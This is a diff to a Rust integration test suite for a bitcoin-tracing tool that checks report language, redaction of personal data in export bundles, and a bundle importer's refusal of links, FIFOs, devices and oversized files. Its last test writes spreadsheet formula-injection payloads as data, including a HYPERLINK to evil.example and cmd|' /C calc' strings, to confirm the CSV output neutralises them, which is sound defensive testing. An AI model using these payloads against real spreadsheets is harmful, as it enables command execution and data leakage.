@@ -181,7 +181,7 @@ fn trace_report_renders_validates_and_regenerates_byte_identically() {
             "--prices",
             s(&prices),
             "--source",
-            "simulated-regtest-seed-7",
+            "simulated-regtest-chain-7",
             "--evaluation",
             s(&eval_dir.join("evaluation.json")),
         ]);
@@ -308,6 +308,38 @@ fn trace_report_renders_validates_and_regenerates_byte_identically() {
             "{lang}: the first page has content"
         );
 
+        // A Japanese report is Japanese throughout (the regenerate section
+        // quotes the commands as typed); an English one English.
+        let html_body = support::html_text(&html);
+        let pdf_body = text.split("再現手順").next().unwrap();
+        for (name, body) in [
+            ("report.html", html_body.as_str()),
+            ("report.pdf", pdf_body),
+        ] {
+            let english = support::english_terms(body);
+            // Table cells wrap: compare without the line breaks.
+            let joined: String = body.split_whitespace().collect();
+            if lang == "ja" {
+                assert!(english.is_empty(), "{name} (ja) holds {english:?}");
+                for ja in [
+                    "神奈川県",
+                    "ロマンス詐欺",
+                    "入金アドレスからの集約送金",
+                    "交換業者",
+                ] {
+                    assert!(joined.contains(ja), "{name} (ja) lacks {ja}");
+                }
+            } else {
+                for en in ["deposit_sweep", "exchange", "Kanagawa"] {
+                    assert!(english.contains(en), "{name} (en) lacks {en}");
+                }
+                assert!(
+                    joined.contains("romancefraud") && !joined.contains("神奈川県"),
+                    "{name}"
+                );
+            }
+        }
+
         // Graph files: GraphML parses, with a node per graph node and an
         // edge per hop; DOT names every hop's transaction.
         let gml = String::from_utf8(written["graph.graphml"].clone()).unwrap();
@@ -425,39 +457,44 @@ fn report_inputs_that_do_not_fit_are_refused() {
     assert!(!out.exists(), "nothing written on refusal");
 }
 
+/// `tracer export CASE --trace TRACE --out OUT EXTRA…`; its stdout.
+fn export(case: &Path, trace: &Path, out: &Path, extra: &[&str]) -> String {
+    let mut args = vec!["export", s(case), "--trace", s(trace), "--out", s(out)];
+    args.extend_from_slice(extra);
+    ok(&args)
+}
+
+/// The real blocks 0–4312 ingested into `tmp/db`.
+fn real_ledger() -> (tempfile::TempDir, PathBuf) {
+    let tmp = tempfile::tempdir().unwrap();
+    let db = tmp.path().join("db");
+    support::ingest_main(&db, &support::fixture("bitcoin/blk-heights-0-4312.dat"));
+    (tmp, db)
+}
+
+/// Traces `case` on the real-chain ledger `db` (address level, haircut and
+/// poison) into `out`.
+fn trace_real_case(db: &Path, case: &Path, out: &Path) {
+    support::trace(
+        db,
+        case,
+        out,
+        &["--level", "address", "--model", "haircut,poison"],
+    );
+}
+
 #[test]
 fn bundles_leave_out_personal_data_and_tampering_is_refused() {
-    let tmp = tempfile::tempdir().unwrap();
+    let (tmp, db) = real_ledger();
     let dir = tmp.path();
-    let db = dir.join("db");
-    support::ingest_main(&db, &support::fixture("bitcoin/blk-heights-0-4312.dat"));
     let case = support::fixture("cases/tokyo-2026-0001.toml");
     let trace_dir = dir.join("trace");
-    ok(&[
-        "--db",
-        s(&db),
-        "trace",
-        s(&case),
-        "--out",
-        s(&trace_dir),
-        "--level",
-        "address",
-        "--model",
-        "haircut,poison",
-    ]);
+    trace_real_case(&db, &case, &trace_dir);
 
     // Redacted by default: no title, notes, investigator or seed notes anywhere.
     let bundle = dir.join("bundle");
-    let done: Value = serde_json::from_str(&ok(&[
-        "export",
-        s(&case),
-        "--trace",
-        s(&trace_dir),
-        "--out",
-        s(&bundle),
-        "--json",
-    ]))
-    .unwrap();
+    let done: Value =
+        serde_json::from_str(&export(&case, &trace_dir, &bundle, &["--json"])).unwrap();
     assert_eq!(done["redacted"], true);
     let written = files(&bundle);
     let names: Vec<&str> = written.keys().map(String::as_str).collect();
@@ -494,15 +531,7 @@ fn bundles_leave_out_personal_data_and_tampering_is_refused() {
 
     // With personal data only when asked.
     let full = dir.join("full");
-    ok(&[
-        "export",
-        s(&case),
-        "--trace",
-        s(&trace_dir),
-        "--out",
-        s(&full),
-        "--with-personal-data",
-    ]);
+    export(&case, &trace_dir, &full, &["--with-personal-data"]);
     assert!(
         String::from_utf8_lossy(&std::fs::read(full.join("bundle.json")).unwrap())
             .contains("Sgt. Sato")
@@ -561,4 +590,334 @@ fn bundles_leave_out_personal_data_and_tampering_is_refused() {
     for i in ["i2", "i3", "i4"] {
         assert!(!dir.join(i).exists(), "nothing imported from a bad bundle");
     }
+}
+
+#[test]
+fn redacted_bundles_hold_no_personal_string_of_the_case() {
+    let (tmp, db) = real_ledger();
+    let dir = tmp.path();
+    // A case kept as police keep them: under the investigator's and the
+    // victim's names, with personal text in every free field.
+    let people = ["Sgt-Sato-Ichiro", "victim-Yamada-Hanako-090-1234-5678"];
+    let case_dir = dir.join("cases").join(people[0]).join(people[1]);
+    std::fs::create_dir_all(&case_dir).unwrap();
+    let personal = [
+        "Yamada Hanako, 3-1 Kasumigaseki",
+        "called from 090-1234-5678 on 27 Feb",
+        "Sgt. Sato Ichiro, Cyber Crime Division",
+        "paid at the Lawson near her home",
+        "the 40 BTC her son-in-law Taro moved",
+    ];
+    let real = std::fs::read_to_string(support::fixture("cases/tokyo-2026-0001.toml")).unwrap();
+    let text = real
+        .replace("Fake police call, victim paid in BTC", personal[0])
+        .replace(
+            "Stand-in facts: block 170, the first person-to-person payment.",
+            personal[1],
+        )
+        .replace("Sgt. Sato, Cyber Crime Division", personal[2])
+        .replace("victim's first payment", personal[3])
+        .replace("the 40 BTC the victim was told to keep 'safe'", personal[4]);
+    for p in personal {
+        assert!(text.contains(p), "{p} in the case file");
+    }
+    let case = case_dir.join("case.toml");
+    std::fs::write(&case, text).unwrap();
+    let trace_dir = case_dir.join("trace");
+    trace_real_case(&db, &case, &trace_dir);
+    let unredacted = std::fs::read_to_string(trace_dir.join("trace.json")).unwrap();
+    assert!(
+        unredacted.contains(people[1]),
+        "the trace records the case path"
+    );
+
+    let bundle = dir.join("bundle");
+    export(&case, &trace_dir, &bundle, &[]);
+    // Every personal string, and the directory names of the paths used.
+    let mut strings: Vec<String> = personal
+        .iter()
+        .chain(&people)
+        .map(|p| p.to_string())
+        .collect();
+    strings.push(dir.file_name().unwrap().to_str().unwrap().to_string());
+    let written = files(&bundle);
+    assert_eq!(written.len(), 4);
+    for (name, bytes) in &written {
+        let text = String::from_utf8_lossy(bytes);
+        for p in &strings {
+            assert!(!text.contains(p.as_str()), "{name} still holds {p:?}");
+        }
+    }
+    // The command stays readable: options and trace parameters, no paths.
+    let trace: Value = serde_json::from_slice(&written["trace.json"]).unwrap();
+    assert_eq!(
+        trace["command"],
+        "tracer --db <redacted> trace <redacted> --out <redacted> --level address --model haircut,poison"
+    );
+    assert_eq!(trace["case"]["id"], "TOKYO-2026-0001");
+    assert_eq!(
+        trace["case"]["seeds"][1]["address"],
+        "12cbQLTFMXRnSzktFkuoG3eHoMeFtpTu3S"
+    );
+}
+
+/// A bundle written by hand: `bundle.json` of case `X-1` without traces,
+/// the files `extra` (name, bytes), and a manifest over both.
+fn hand_made_bundle(dir: &Path, extra: &[(&str, &[u8])]) {
+    std::fs::create_dir_all(dir).unwrap();
+    let meta = br#"{"format": 1, "case": {"id": "X-1"}, "traces": []}"#;
+    let mut manifest = String::new();
+    let mut all: Vec<(&str, &[u8])> = vec![("bundle.json", meta)];
+    all.extend_from_slice(extra);
+    all.sort();
+    for (name, bytes) in all {
+        std::fs::write(dir.join(name), bytes).unwrap();
+        manifest.push_str(&format!("{:x}  {name}\n", Sha256::digest(bytes)));
+    }
+    std::fs::write(dir.join("MANIFEST.sha256"), manifest).unwrap();
+}
+
+/// `tracer import BUNDLE --into INTO`, expected to fail; its stderr. Run
+/// with 2 GiB of address space and killed after 60 s, so that a reader
+/// that follows `/dev/zero` or waits on a FIFO fails instead of hanging.
+fn import_refused(bundle: &Path, into: &Path) -> String {
+    use std::os::unix::process::CommandExt;
+    let mut cmd = support::tracer();
+    cmd.args(["import", s(bundle), "--into", s(into)])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    // SAFETY: only setrlimit, which is async-signal-safe, runs in the child.
+    unsafe {
+        cmd.pre_exec(|| {
+            let limit = libc::rlimit {
+                rlim_cur: 2 << 30,
+                rlim_max: 2 << 30,
+            };
+            if libc::setrlimit(libc::RLIMIT_AS, &limit) != 0 {
+                return Err(std::io::Error::last_os_error());
+            }
+            Ok(())
+        });
+    }
+    let mut child = cmd.spawn().unwrap();
+    let start = std::time::Instant::now();
+    while child.try_wait().unwrap().is_none() {
+        if start.elapsed() > std::time::Duration::from_secs(60) {
+            child.kill().unwrap();
+            panic!("import {} did not finish", bundle.display());
+        }
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    let out = child.wait_with_output().unwrap();
+    assert!(
+        !out.status.success(),
+        "import {} succeeded",
+        bundle.display()
+    );
+    assert!(!into.join("X-1").exists(), "nothing imported");
+    stderr(&out)
+}
+
+/// `tracer import` of a hand-made bundle under `dir/<case>` whose listed
+/// file `name` (of content `listed`) is then replaced by what `put` makes
+/// at its path; refused, its stderr.
+fn import_with(
+    dir: &Path,
+    case: &str,
+    name: &str,
+    listed: &[u8],
+    put: impl FnOnce(&Path),
+) -> String {
+    let bundle = dir.join(case);
+    hand_made_bundle(&bundle, &[(name, listed)]);
+    let path = bundle.join(name);
+    std::fs::remove_file(&path).unwrap();
+    put(&path);
+    import_refused(&bundle, &dir.join("imports"))
+}
+
+/// A C string of `path` for libc.
+fn c_path(path: &Path) -> std::ffi::CString {
+    std::ffi::CString::new(s(path)).unwrap()
+}
+
+#[test]
+fn import_reads_regular_files_only_within_size_limits() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path();
+    let plain = dir.join("plain");
+    hand_made_bundle(&plain, &[("notes.json", b"{}")]);
+    // The hand-made bundle imports as it is.
+    ok(&["import", s(&plain), "--into", s(&dir.join("fine"))]);
+    assert!(dir.join("fine/X-1/notes.json").is_file());
+
+    // A bundle file linked to a local file whose digest the sender knows
+    // would copy that file into the import, by a symbolic or a hard link.
+    let secret = dir.join("secret.txt");
+    std::fs::write(&secret, b"local secret").unwrap();
+    let e = import_with(dir, "linked", "notes.json", b"local secret", |p| {
+        std::os::unix::fs::symlink(&secret, p).unwrap()
+    });
+    assert!(e.contains("notes.json is a symbolic link"), "{e}");
+    let e = import_with(dir, "hard", "notes.json", b"local secret", |p| {
+        std::fs::hard_link(&secret, p).unwrap()
+    });
+    assert!(e.contains("notes.json is a hard link"), "{e}");
+    // A file, or the manifest, linked to /dev/zero would be read forever.
+    let zero = |p: &Path| std::os::unix::fs::symlink("/dev/zero", p).unwrap();
+    let e = import_with(dir, "zero", "trace.json", b"{}", zero);
+    assert!(e.contains("trace.json is a symbolic link"), "{e}");
+    let e = import_with(dir, "zero-manifest", "MANIFEST.sha256", b"", zero);
+    assert!(e.contains("MANIFEST.sha256 is a symbolic link"), "{e}");
+    // A FIFO would block the reader; a device node reads without end; a
+    // directory is no file.
+    let e = import_with(dir, "fifo", "trace.json", b"{}", |p| {
+        assert_eq!(unsafe { libc::mkfifo(c_path(p).as_ptr(), 0o600) }, 0)
+    });
+    assert!(e.contains("trace.json is a FIFO"), "{e}");
+    let e = import_with(dir, "device", "trace.json", b"{}", |p| {
+        // The character device of /dev/zero (1, 5); the tests run as root.
+        let made = unsafe {
+            libc::mknod(
+                c_path(p).as_ptr(),
+                libc::S_IFCHR | 0o600,
+                libc::makedev(1, 5),
+            )
+        };
+        assert_eq!(made, 0, "mknod: {}", std::io::Error::last_os_error());
+    });
+    assert!(e.contains("trace.json is a device"), "{e}");
+    let e = import_with(dir, "subdir", "trace.json", b"{}", |p| {
+        std::fs::create_dir(p).unwrap()
+    });
+    assert!(e.contains("trace.json is a directory"), "{e}");
+
+    // Sizes are bounded per file and per bundle (sparse files: nothing is
+    // written to disk, and nothing of them is read).
+    let sparse = |p: &Path, len: u64| std::fs::File::create(p).unwrap().set_len(len).unwrap();
+    let max = reports::bundle::MAX_FILE_BYTES;
+    let e = import_with(dir, "big", "trace.json", b"{}", |p| sparse(p, max + 1));
+    let want = format!(
+        "trace.json is {} bytes, more than a bundle file may be",
+        max + 1
+    );
+    assert!(e.contains(&want), "{e}");
+    let many = dir.join("many");
+    let names = ["a.json", "b.json", "c.json", "d.json", "e.json"];
+    let parts: Vec<(&str, &[u8])> = names.iter().map(|n| (*n, &b"{}"[..])).collect();
+    hand_made_bundle(&many, &parts);
+    for n in names {
+        sparse(&many.join(n), max);
+    }
+    let e = import_refused(&many, &dir.join("imports"));
+    assert!(e.contains("the files hold more than a bundle may"), "{e}");
+}
+
+/// Every cell of a CSV file tracer wrote (after its BOM).
+fn csv_cells(bytes: &[u8]) -> Vec<String> {
+    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 BOM");
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(&bytes[3..])
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
+        .collect()
+}
+
+#[test]
+fn hostile_tag_labels_never_become_spreadsheet_formulas() {
+    let (tmp, sim, db) = simulated_ledger(7);
+    // The simulator's TagPack, its actors, labels and source turned into
+    // formulas, as a hostile or careless TagPack author would write them.
+    let pack = std::fs::read_to_string(sim.join("tags.yaml")).unwrap();
+    let hostile: String = pack
+        .lines()
+        .map(|l| {
+            if let Some(actor) = l.strip_prefix("  actor: ") {
+                format!("  actor: '=HYPERLINK(\"http://evil.example/{actor}\",\"{actor}\")'")
+            } else if let Some(label) = l.strip_prefix("  label: ") {
+                format!("  label: '+cmd|'' /C calc''!A0 {label}'")
+            } else if l.starts_with("source: ") {
+                "source: '@SUM(1+1)*cmd|'' /C calc''!A0'".to_string()
+            } else {
+                l.to_string()
+            }
+        })
+        .map(|l| l + "\n")
+        .collect();
+    assert_ne!(hostile, pack);
+    let tags = tmp.path().join("hostile.yaml");
+    std::fs::write(&tags, hostile).unwrap();
+    ok(&["--db", s(&db), "tags", "import", s(&tags)]);
+    ok(&["--db", s(&db), "cluster", "build"]);
+    let case = direct_case(&sim, tmp.path());
+    let trace_dir = tmp.path().join("trace");
+    ok(&["--db", s(&db), "trace", s(&case), "--out", s(&trace_dir)]);
+    let report = tmp.path().join("report");
+    ok(&[
+        "report",
+        s(&case),
+        "--trace",
+        s(&trace_dir),
+        "--out",
+        s(&report),
+    ]);
+    // Every case of the simulated chain, linked: shared deposit addresses
+    // carry the services' names into links.csv.
+    let records = truth_records(&sim);
+    let mut cases = Vec::new();
+    for c in records.iter().filter(|r| r["type"] == "case") {
+        let path = tmp.path().join(format!("case-{}.toml", c["id"]));
+        std::fs::write(
+            &path,
+            format!(
+                "format = 1\n[case]\nid = \"SIM-{}\"\nprefecture = \"{}\"\ncrime = \"other\"\n\
+                 reported = 2026-03-02\ninvestigator = \"Test\"\n\n{}",
+                c["id"],
+                c["prefecture"].as_str().unwrap(),
+                support::truth_seeds(c)
+            ),
+        )
+        .unwrap();
+        cases.push(path);
+    }
+    let link = tmp.path().join("link");
+    let mut args = vec!["--db", s(&db), "link", "--out", s(&link)];
+    args.extend(cases.iter().map(|p| s(p)));
+    ok(&args);
+
+    let dangerous = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+    // A plain negative number is a number, not a formula.
+    let number = |c: &str| {
+        c.strip_prefix('-')
+            .is_some_and(|d| !d.is_empty() && d.chars().all(|x| x.is_ascii_digit() || x == '.'))
+    };
+    let mut neutralised = BTreeMap::new();
+    for path in [
+        report.join("endpoints.csv"),
+        report.join("hops.csv"),
+        link.join("links.csv"),
+        link.join("cases.csv"),
+    ] {
+        let cells = csv_cells(&std::fs::read(&path).unwrap());
+        for c in &cells {
+            assert!(
+                !c.starts_with(dangerous) || number(c),
+                "{}: a cell a spreadsheet would evaluate: {c:?}",
+                path.display()
+            );
+        }
+        let quoted = cells
+            .iter()
+            .filter(|c| c.starts_with("'=HYPERLINK(") || c.starts_with("'+cmd|"))
+            .count();
+        neutralised.insert(
+            path.file_name().unwrap().to_str().unwrap().to_string(),
+            quoted,
+        );
+    }
+    // The hostile names did reach the tables: the services in the endpoint
+    // table (service, and the tag as evidence) and in the links.
+    assert!(neutralised["endpoints.csv"] >= 2, "{neutralised:?}");
+    assert!(neutralised["links.csv"] >= 1, "{neutralised:?}");
 }
